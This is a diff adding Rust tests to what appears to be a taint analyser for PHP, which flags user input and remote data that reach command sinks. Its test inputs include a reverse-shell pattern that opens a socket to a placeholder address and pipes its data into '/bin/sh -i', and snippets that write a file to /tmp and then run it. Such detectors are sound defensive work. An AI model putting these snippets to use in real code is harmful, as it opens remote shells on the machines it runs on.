@@ -182,3 +182,51 @@ fn defaults_for_what_may_be_sent() {
         )],
     );
 }
+
+#[test]
+fn what_may_still_be_the_request() {
+    check(
+        Php,
+        &[
+            ("<?php if (!$_POST['k']) { $_POST['k'] = 'id'; } demo_sink($_POST['k']);", "Command demo_sink Parameter:k Whole"),
+            ("<?php $_POST['k'] = 'id'; demo_sink($_POST['k']);", "Command demo_sink = id"),
+        ],
+    );
+}
+
+#[test]
+fn methods_of_traits_come_before_those_of_parents() {
+    check(
+        Php,
+        &[(
+            "<?php trait D { public $x = 'demo_sink'; public function f($a) { $b = $this->x; $b($a); } } class A { public function f() { } } class C extends A { use D; } (new C)->f($demo_array['k']);",
+            "Command demo_sink Parameter:k Whole",
+        )],
+    );
+}
+
+#[test]
+fn shells_and_files_that_are_run() {
+    check(
+        Php,
+        &[
+            // What comes from another machine goes into a shell.
+            (
+                "<?php $s = fsockopen('192.0.2.1', 80); $p = proc_open('id; /bin/sh -i', array(), $pipes); fwrite($pipes[0], fread($s, 9));",
+                "Tunnel fsockopen = 192.0.2.1; Command proc_open = id; /bin/sh -i; Command fwrite Remote: Whole",
+            ),
+            (
+                "<?php file_put_contents('/tmp/a', 'b'); demo_sink('chmod +x /tmp/a; /tmp/a 1');",
+                "Write file_put_contents = b; Command demo_sink = chmod +x /tmp/a; /tmp/a 1 also",
+            ),
+            (
+                "<?php file_put_contents('/tmp/a', 'b'); demo_sink('perl -w /tmp/a');",
+                "Write file_put_contents = b; Command demo_sink = perl -w /tmp/a also",
+            ),
+            (
+                "<?php file_put_contents('/tmp/a', 'b'); demo_sink('convert /tmp/a');",
+                "Write file_put_contents = b; Command demo_sink = convert /tmp/a",
+            ),
+        ],
+    );
+}
